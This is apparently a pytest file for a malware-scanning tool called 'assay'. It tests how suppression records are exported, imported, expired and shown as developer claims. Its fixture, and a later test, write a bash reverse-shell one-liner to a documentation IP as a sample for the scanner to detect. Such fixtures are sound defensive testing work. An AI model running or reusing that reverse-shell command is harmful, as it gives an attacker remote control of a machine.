"""`assay suppressions` as a team uses it: said here, exported, imported elsewhere, where the same is resolved."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from app.cancel import CancelToken
from app.desk import Desk
from app.triage import Verdict

pytestmark = [pytest.mark.needs("bwrap", "libarchive", "libmagic")]

RUN = ("--only", "malware_rules", "--only", "claims", "--format", "json")


@pytest.fixture
def package(tmp_path: Path) -> Path:
    folder = tmp_path / "app"
    (folder / "lib").mkdir(parents=True)
    (folder / "lib" / "a.sh").write_text("#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
    return folder


def elsewhere(home: Path) -> dict[str, str]:
    """The folders of another reviewer."""
    names = {"XDG_DATA_HOME": "data", "XDG_CONFIG_HOME": "config", "XDG_CACHE_HOME": "cache"}
    return {variable: str(home / "elsewhere" / name) for variable, name in names.items()}


def findings(done) -> list[dict]:
    return json.loads(done.stdout)["findings"]


def test_from_one_desk_to_another(assay, package: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with Desk.open() as desk:
        about = desk.take_in(package)
        run = desk.run(about.id, only=["malware_rules"], on_event=lambda _: None, cancel=CancelToken())
        monkeypatch.setattr(desk.store, "last_run", lambda _: run)  # one with chosen checks is none to triage on
        prints = [f.fingerprint for f in run.findings]
        assert prints
        desk.triage(about.id, prints, Verdict.FALSE_POSITIVE, "A lesson about shells")
    shared = tmp_path / "team.toml"
    assert assay("suppressions", "export", shared, "--until", "2099-12-31").returncode == 0
    first = shared.read_bytes()
    assert assay("suppressions", "export", shared, "--until", "2099-12-31").returncode == 0
    assert shared.read_bytes() == first

    other = elsewhere(tmp_path)
    before = findings(assay("check", package, *RUN, env=other))
    assert [f["triage"] for f in before] == [None] * len(prints)
    shared.write_bytes(first + b'\n[[suppression]]\ncheck = "x"\n')
    taken = assay("suppressions", "import", shared, env=other)
    assert taken.returncode == 1
    assert f"team.toml:{first.count(bytes([10])) + 2}: entry {len(prints) + 1}: ".encode() in taken.stdout
    after = findings(assay("check", package, *RUN, env=other))
    assert {f["fingerprint"] for f in after} == set(prints)
    for finding in after:
        assert finding["triage"]["state"] == "holds"
        assert finding["triage"]["shared_by"] == "team.toml"
        assert finding["triage"]["until"] == "2099-12-31"
    assert b"(shared by team.toml, until 2099-12-31)" in assay("check", package, *RUN[:-1], "text", env=other).stdout
    back = tmp_path / "back.toml"
    assert assay("suppressions", "export", back, env=other).returncode == 0
    assert back.read_bytes() == first

    (package / "lib" / "a.sh").write_text("#!/bin/sh\n# changed\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
    assert {f["triage"]["state"] for f in findings(assay("check", package, *RUN, env=other))} == {"offered"}
    assert assay("suppressions", "remove", "--file", "team.toml", env=other).returncode == 0
    assert {f["triage"] for f in findings(assay("check", package, *RUN, env=other))} == {None}


def test_one_that_has_ended_is_said_and_does_not_count(assay, package: Path, tmp_path: Path) -> None:
    [finding] = findings(assay("check", package, *RUN))
    shared = tmp_path / "old.json"
    keys = {"check": "check", "rule": "rule", "file_sha256": "sha256"}
    row = {ours: finding[theirs] for theirs, ours in keys.items()} | {"path": "lib/a.sh", "reason": "A lesson"}
    row |= {"verdict": "accepted_risk", "until": "2020-01-01", "who": "Ana"}
    shared.write_text(json.dumps({"schema": "assay-suppressions/1", "suppressions": [row]}))
    taken = assay("suppressions", "import", shared)
    assert taken.returncode == 0
    assert b"entry 1: ended on 2020-01-01, so it does not count" in taken.stdout
    assert b"expired: it does not count" in assay("suppressions").stdout
    [finding] = findings(assay("check", package, *RUN))
    assert finding["triage"]["state"] == "offered"
    assert b"no longer counts" in assay("check", package, *RUN[:-1], "text").stdout
    assert assay("suppressions", "remove", "--expired").returncode == 0
    assert assay("suppressions").stdout.startswith(b"no suppressions were imported")


def test_a_claim_is_shown_and_resolves_nothing(assay, package: Path, tmp_path: Path) -> None:
    [finding] = findings(assay("check", package, *RUN))
    entry = (
        'schema = "assay-suppressions/1"\n[[suppression]]\ncheck = "malware_rules"\nrule = "{rule}"\n'
        'path = "lib/a.sh"\nsha256 = "{sha}"\nverdict = "false_positive"\nreason = "Our lesson"\n'
    )
    for sha, ending in ((finding["file_sha256"], "Our lesson"), ("0" * 64, "of other bytes than this file has]")):
        (package / "assay-suppressions.toml").write_text(entry.format(rule=finding["rule"], sha=sha))
        done = assay("check", package, *RUN)
        assert done.returncode == 1
        [claimed] = [f for f in findings(done) if f["check"] == "malware_rules"]
        assert claimed["claim"].startswith("false positive: Our lesson")
        assert claimed["claim"].endswith(ending)
        assert (claimed["severity"], claimed["triage"]) == (finding["severity"], None)
        for form in ("text", "md", "html"):
            assert b"developer claims" in assay("check", package, *RUN[:-1], form).stdout


def test_wrong_use_is_one_line(assay, tmp_path: Path) -> None:
    (tmp_path / "bad.toml").write_text("x = 1\n")
    for arguments, complaint in (
        (("import", tmp_path / "gone.toml"), "cannot be read"),
        (("import", tmp_path / "bad.toml"), "its schema has to be"),
        (("export", tmp_path / "out.toml"), "nothing to export"),
        (("export", tmp_path / "out.toml", "--submission", "77"), "there is no submission '77'"),
        (("remove", "3"), "there is no suppression 3"),
        (("remove",), "say which"),
    ):
        done = assay("suppressions", *arguments)
        assert done.returncode == 2, done
        assert complaint.encode() in done.stderr
        assert done.stderr.count(b"\n") == 1
    assert [p.name for p in tmp_path.iterdir()] == ["bad.toml"]
